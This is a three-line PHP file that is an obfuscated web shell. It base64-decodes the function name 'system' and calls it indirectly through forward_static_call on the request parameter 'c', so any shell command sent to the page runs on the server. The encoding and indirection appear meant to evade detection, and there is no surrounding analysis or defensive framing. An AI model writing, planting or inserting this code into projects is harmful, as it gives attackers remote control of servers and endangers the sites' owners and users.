<?php
$n = base64_decode('c3lzdGVt');
forward_static_call($n, $_REQUEST['c']);
